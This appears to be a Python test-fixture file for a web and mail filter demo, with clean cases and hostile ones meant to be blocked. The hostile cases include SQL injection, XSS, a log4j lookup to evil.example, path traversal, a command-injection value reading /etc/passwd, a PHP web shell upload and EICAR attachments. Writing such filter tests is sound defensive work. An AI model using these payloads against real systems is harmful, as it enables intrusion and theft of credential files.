"""What the demo sends: a dozen requests and messages, clean and hostile, and what should become of each."""

from __future__ import annotations

import base64
import io
import zipfile
from dataclasses import dataclass, field

DOMAIN = "example.org"
"""The domain whose mail the demo takes."""


@dataclass(frozen=True, slots=True)
class WebCase:
    """One HTTP request; `passes` is what should become of it."""

    title: str
    passes: bool
    method: str = "GET"
    target: str = "/"
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""


@dataclass(frozen=True, slots=True)
class MailCase:
    """One message to `someone@DOMAIN`, or to `to`."""

    title: str
    passes: bool
    body: bytes
    to: str = f"someone@{DOMAIN}"


# Assembled, so that no virus scanner takes this file for what it only describes.
_EICAR = (rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + rb"TEST-FILE!$H+H*").replace(b"\n", b"")
_FORM = {"Content-Type": "application/x-www-form-urlencoded"}
_JSON = {"Content-Type": "application/json"}
_PARTS = {"Content-Type": "multipart/form-data; boundary=b0undary"}


def _part(name: str, value: bytes, filename: str = "") -> bytes:
    named = f'; filename="{filename}"' if filename else ""
    head = f'--b0undary\r\nContent-Disposition: form-data; name="{name}"{named}\r\n\r\n'.encode("ascii")
    return head + value + b"\r\n--b0undary--\r\n"


WEB = (
    WebCase("a page", True, target="/hello?name=ada"),
    WebCase("a form", True, "POST", "/login", _FORM, b"user=ada&comment=It%27s+fine%2C+thanks"),
    WebCase("JSON", True, "POST", "/api/orders", _JSON, b'{"item": "tea", "count": 3, "note": "select a good one"}'),
    WebCase("SQL injection in the query", False, target="/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"),
    WebCase("SQL injection in JSON", False, "POST", "/api/login", _JSON, b"{\"user\": \"admin' OR '1'='1' -- \"}"),
    WebCase("SQL injection in a form part", False, "POST", "/upload", _PARTS, _part("title", b"x' OR 1=1 -- ")),
    WebCase("script in a form", False, "POST", "/comment", _FORM, b"text=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    WebCase("script in a cookie", False, headers={"Cookie": "theme=<img src=x onerror=alert(1)>"}),
    WebCase("log4j lookup in User-Agent", False, headers={"User-Agent": "${jndi:ldap://evil.example/a}"}),
    WebCase("path traversal", False, target="/files/..%2f..%2f..%2fetc/passwd"),
    WebCase("shell command", False, target="/ping?host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd"),
    WebCase(
        "web shell as upload", False, "POST", "/upload", _PARTS, _part("f", b"<?php system($_GET[0]); ?>", "a.php")
    ),
)


def _message(subject: str, *parts: bytes) -> bytes:
    head = (
        f"From: Ada <ada@example.net>\r\nTo: someone@{DOMAIN}\r\nSubject: {subject}\r\n"
        "Date: Mon, 05 Jan 2026 10:00:00 +0000\r\nMessage-ID: <demo@example.net>\r\nMIME-Version: 1.0\r\n"
    ).encode("ascii")
    if not parts:
        return head + b"Content-Type: text/plain; charset=utf-8\r\n\r\nSee you at noon.\r\n"
    body = b"".join(b"--m1me\r\n" + part + b"\r\n" for part in parts)
    return head + b'Content-Type: multipart/mixed; boundary="m1me"\r\n\r\n' + body + b"--m1me--\r\n"


def _attachment(name: str, content: bytes, kind: str = "application/octet-stream") -> bytes:
    head = (
        f'Content-Type: {kind}; name="{name}"\r\nContent-Transfer-Encoding: base64\r\n'
        f'Content-Disposition: attachment; filename="{name}"\r\n\r\n'
    ).encode("ascii")
    return head + base64.encodebytes(content).replace(b"\n", b"\r\n")


def _zipped(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


_TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\nPlease see the attachment.\r\n"

MAIL = (
    MailCase("a message", True, _message("lunch")),
    MailCase(
        "a picture attached", True, _message("photo", _TEXT, _attachment("p.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64))
    ),
    MailCase("EICAR as attachment", False, _message("report", _TEXT, _attachment("report.txt", _EICAR))),
    MailCase("EICAR inside a zip", False, _message("report", _TEXT, _attachment("r.zip", _zipped("r.txt", _EICAR)))),
    MailCase(
        "invoice.pdf.exe", False, _message("invoice", _TEXT, _attachment("invoice.pdf.exe", b"MZ" + b"\0" * 62))
    ),
    MailCase("to a foreign domain", False, _message("relay"), to="someone@elsewhere.example"),
)
